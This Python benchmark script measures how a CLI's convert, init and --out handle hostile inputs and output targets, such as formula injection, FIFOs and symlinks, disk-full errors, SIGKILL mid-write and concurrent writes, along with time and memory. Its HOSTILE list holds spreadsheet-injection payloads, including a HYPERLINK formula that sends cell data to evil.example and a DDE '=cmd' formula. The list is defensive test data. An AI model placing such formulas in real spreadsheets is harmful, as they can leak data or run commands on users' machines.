"""What `convert`, `init` and `--out` do with hostile text and hostile targets, one class at a time (issue 10,
writing files), with the time and peak memory it takes.

Run: python benchmarks/hostile_output.py [--root /tmp/base-wt] [--only NAME,...] [--kills 20]
Each class's inputs are generated at run time into a temporary folder; the work runs in child processes of the
code under --root (default: this checkout), so "before" and "after" are measured the same way. Prints, per class:
what happened (the outcome the issue asks for is in the docstring of each class), seconds, and the peak RSS
(MiB) of the largest child.
"""
from __future__ import annotations

import argparse
import itertools
import os
import random
import signal
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")', "=cmd|' /C calc'!A0", "+1", "-2",
           "@SUM(A1:A9)", "'=quoted formula", "-"]
TEXT_FIELDS = {"organization": ["name", "currency"], "units": ["name", "market", "platform"],
               "roles": ["name", "responsibilities"], "people": ["name"], "objectives": ["name"],
               "metrics": ["name", "formula", "system"], "kpis": ["name"], "incentives": ["name"],
               "reviews": ["name"], "dashboards": ["name", "tool"]}


class Measured:
    """Children run one after another; the slowest part of a class is its children, so time them and keep the
    largest peak RSS (wait4 gives each child's own)."""

    def __init__(self, root: Path) -> None:
        self.root, self.peak_kib = root, 0

    def popen(self, *args: str, code: str | None = None, **kwargs) -> subprocess.Popen:
        command = [sys.executable, "-c", code] if code else [sys.executable, "-c", "from cli.main import main; main()"]
        env = {**os.environ, "PYTHONPATH": str(self.root), "KPI_AUDIT_LANG": "en"}
        return subprocess.Popen([*command, *args], cwd=self.root, env=env, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, **kwargs)

    def wait(self, child: subprocess.Popen) -> tuple[int, str]:
        _, status, usage = os.wait4(child.pid, 0)
        child.returncode = os.waitstatus_to_exitcode(status)
        self.peak_kib = max(self.peak_kib, usage.ru_maxrss)
        err = child.stderr.read().decode("utf-8", "replace")
        child.stdout.close(), child.stderr.close()
        return child.returncode, err

    def cli(self, *args: object) -> tuple[int, str]:
        return self.wait(self.popen(*map(str, args)))


def _verdict(code: int, err: str) -> str:
    return f"exit {code}{', TRACEBACK' if 'Traceback' in err else ''}"


def hostile_intake(folder: Path) -> Path:
    """The healthy example with formula-looking text in every free-text field, a `-` id and negative numbers."""
    raw = yaml.safe_load((ROOT / "examples" / "healthy.yaml").read_text(encoding="utf-8"))
    texts = itertools.cycle(HOSTILE)
    for section, names in TEXT_FIELDS.items():
        for record in [raw[section]] if section == "organization" else raw.get(section) or []:
            for name in names:
                record[name] = next(texts)
    raw["units"].append({"id": "-2", "name": "-2", "kind": "team", "parent": raw["units"][0]["id"]})
    for kpi in raw["kpis"]:
        kpi["target"] = -2
    path = folder / "hostile.yaml"
    path.write_text(yaml.safe_dump(raw, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


_COMPARE = """
import os, sys, openpyxl
from engine.loaders import load_intake
a, b = sys.argv[1], sys.argv[2]
formulas = 0
if b.endswith('.xlsx') and os.path.exists(b):
    book = openpyxl.load_workbook(b)
    formulas = sum(c.data_type == 'f' for s in book.worksheets for r in s.iter_rows() for c in r)
try:
    same = load_intake(a).intake == load_intake(b).intake
except Exception as exc:
    same = type(exc).__name__
print(formulas, same)
"""


def _compare(run: Measured, source: Path, target: Path) -> str:
    child = run.popen(str(source), str(target), code=_COMPARE)
    out = child.stdout.read().decode()
    run.wait(child)
    formulas, same = out.split()
    return f"{formulas} formula cells, lossless {same}"


def injection_xlsx(run: Measured, folder: Path) -> str:
    """yaml -> xlsx and xlsx -> xlsx: wanted 0 formula cells and lossless both times."""
    source = hostile_intake(folder)
    first, second = folder / "a.xlsx", folder / "b.xlsx"
    results = []
    for src, dst in ((source, first), (first, second)):
        code, err = run.cli("convert", src, dst)
        results.append(f"{_verdict(code, err)}, {_compare(run, source, dst)}")
    return "; xlsx->xlsx: ".join(results)


def injection_csv(run: Measured, folder: Path) -> str:
    """yaml -> CSV folder: wanted no text cell starting with = + - @ (numbers may) and lossless."""
    import csv

    source = hostile_intake(folder)
    target = folder / "csv"
    code, err = run.cli("convert", source, target)
    live = 0
    for path in target.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for cell in (c for row in csv.reader(handle) for c in row):
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    try:
                        float(cell)
                    except ValueError:
                        live += 1
    return f"{_verdict(code, err)}, {live} live formula cells, {_compare(run, source, target).split(', ')[1]}"


def private_report(run: Measured, folder: Path) -> str:
    """A 0600 report rewritten by `audit --out`: wanted mode 600 afterwards."""
    out = folder / "report.json"
    out.write_text("{}", encoding="utf-8")
    out.chmod(0o600)
    code, err = run.cli("audit", ROOT / "examples" / "healthy.yaml", "--out", out)
    return f"{_verdict(code, err)}, mode {stat.S_IMODE(out.stat().st_mode):o}"


def odd_targets(run: Measured, folder: Path) -> str:
    """convert --force onto a FIFO, a symlink to /dev/null and a symlink to a folder: wanted exit 2, each left
    as it was."""
    source = ROOT / "examples" / "healthy.yaml"
    fifo, null, linked = folder / "pipe.yaml", folder / "null.yaml", folder / "dir.yaml"
    os.mkfifo(fifo)
    null.symlink_to("/dev/null")
    (folder / "d").mkdir()
    linked.symlink_to(folder / "d")
    outcomes = []
    for target, intact in ((fifo, lambda: stat.S_ISFIFO(fifo.lstat().st_mode)), (null, null.is_symlink),
                           (linked, linked.is_symlink)):
        code, err = run.cli("convert", source, target, "--force")
        outcomes.append(f"{target.name}: {_verdict(code, err)}, {'kept' if intact() else 'REPLACED'}")
    return "; ".join(outcomes)


def long_name(run: Measured, folder: Path) -> str:
    """A 250-character target name (245 + .xlsx): wanted exit 0."""
    code, err = run.cli("convert", ROOT / "examples" / "healthy.yaml", folder / ("a" * 245 + ".xlsx"))
    return _verdict(code, err)


_DISK_FULL = """
import errno, os, sys, pathlib
def full(self, *args, **kwargs):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
pathlib.Path.write_text = full
from cli.main import main
main()
"""


def write_errors(run: Measured, folder: Path) -> str:
    """convert with a parent that is a file, a full disk (a monkeypatched write) and a 300-character name:
    wanted exit 2, a message, no traceback, no temporary left."""
    source = ROOT / "examples" / "healthy.yaml"
    parent = folder / "file"
    parent.write_text("x", encoding="utf-8")
    outcomes = [f"parent file: {_verdict(*run.cli('convert', source, parent / 'x.yaml'))}"]
    outcomes.append(f"disk full: {_verdict(*run.wait(run.popen('convert', str(source), str(folder / 'csv'), code=_DISK_FULL)))}")
    outcomes.append(f"name too long: {_verdict(*run.cli('convert', source, folder / ('c' * 300 + '.yaml')))}")
    left = [p.name for p in folder.iterdir() if p.name.startswith(".")]
    return "; ".join(outcomes) + f"; {len(left)} temporaries left"


_CONVERT_FOREVER = """
import sys
from pathlib import Path
from engine.loaders import load_intake
from engine.loaders.writers import intake_to_raw, write_csv_folder
raws = [intake_to_raw(load_intake(p).intake) for p in sys.argv[2:4]]
n = 0
while True:
    write_csv_folder(raws[n % 2], Path(sys.argv[1]), "en")
    if n == 0:
        print("ready", flush=True)
    n += 1
"""

_CHECK = """
import sys
from engine.loaders import load_intake
try:
    name = load_intake(sys.argv[1]).intake.organization.id
except Exception as exc:
    name = type(exc).__name__
print(name)
"""


def kill9_folder(run: Measured, folder: Path, kills: int) -> str:
    """A CSV folder rewritten in a loop, killed with SIGKILL at random points: wanted the folder there and whole
    after every kill, and no temporary left after the next write."""
    target = folder / "intake"
    sources = [str(ROOT / "examples" / n) for n in ("healthy.yaml", "cross-border-seller.yaml")]
    run.cli("convert", sources[0], target)
    expected = {yaml.safe_load(Path(src).read_text(encoding="utf-8"))["organization"]["id"] for src in sources}
    rng, broken = random.Random(10), 0
    for _ in range(kills):
        child = run.popen(str(target), *sources, code=_CONVERT_FOREVER)
        child.stdout.readline()
        time.sleep(rng.uniform(0, 0.05))
        child.send_signal(signal.SIGKILL)
        run.wait(child)
        checker = run.popen(str(target), code=_CHECK)
        name = checker.stdout.read().decode().strip()
        run.wait(checker)
        broken += name not in expected
    run.cli("convert", sources[1], target, "--force")
    leftovers = len([p for p in folder.iterdir() if p.name.startswith(".")])
    return f"{broken} of {kills} kills left no folder or a broken one; {leftovers} hidden leftovers after one more write"


def concurrent_converts(run: Measured, folder: Path) -> str:
    """Two processes each converting into one CSV folder 15 times: wanted no failure, a whole folder at the end."""
    target = folder / "intake"
    sources = [ROOT / "examples" / n for n in ("healthy.yaml", "cross-border-seller.yaml")]
    failures: list[str] = []
    for _ in range(15):
        children = [run.popen("convert", str(src), str(target), "--force") for src in sources]
        for code, err in map(run.wait, children):
            if code:
                failures.append(err.strip().splitlines()[-1][:160])
    checker = run.popen(str(target), code=_CHECK)
    name = checker.stdout.read().decode().strip()
    run.wait(checker)
    first = f" (first: {failures[0]})" if failures else ""
    return f"{len(failures)} of 30 converts failed{first}; final folder reads as {name}"


CLASSES: dict[str, Callable[..., str]] = {
    "injection_xlsx": injection_xlsx, "injection_csv": injection_csv, "private_report": private_report,
    "odd_targets": odd_targets, "long_name": long_name, "write_errors": write_errors,
    "kill9_folder": kill9_folder, "concurrent_converts": concurrent_converts,
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--root", type=Path, default=ROOT, help="checkout whose code is measured")
    parser.add_argument("--only", default="", help="comma-separated class names")
    parser.add_argument("--kills", type=int, default=20, help="SIGKILLs in kill9_folder")
    args = parser.parse_args()
    chosen = [n for n in CLASSES if not args.only or n in args.only.split(",")]
    print(f"{'class':22} {'seconds':>8} {'peak MiB':>9}  outcome")
    for name in chosen:
        run = Measured(args.root.resolve())
        with tempfile.TemporaryDirectory() as tmp:
            start = time.perf_counter()
            extra = {"kills": args.kills} if name == "kill9_folder" else {}
            outcome = CLASSES[name](run, Path(tmp), **extra)
            seconds = time.perf_counter() - start
        print(f"{name:22} {seconds:8.2f} {run.peak_kib / 1024:9.0f}  {outcome}", flush=True)


if __name__ == "__main__":
    main()
